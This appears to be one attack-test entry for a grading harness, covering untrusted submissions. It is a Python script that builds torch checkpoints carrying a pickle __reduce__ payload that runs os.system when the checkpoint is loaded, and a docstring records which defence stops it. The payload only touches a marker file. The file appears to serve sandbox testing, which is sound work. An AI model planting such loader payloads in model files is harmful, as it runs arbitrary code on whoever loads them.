"""
entries = [35]
tries = "Write a checkpoint that runs code when it is loaded, and hope that somebody loads it."
stopped_by = "No file of a submission is ever loaded by the trusted side; the scratch is gone afterwards."
assignment = "gans"
says = ["checkpoint of"]
stock = "its checks need objects that stay in another process"
"""
# %% first
import os

import torch


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/attack-checkpoint",)


size = 0
for name in ("generator.pt", "/tmp/attack.pt", "model.ckpt", "weights.pkl"):
    torch.save({"weights": Payload()}, name)
    size += os.path.getsize(name)
print("checkpoint of", size > 100)
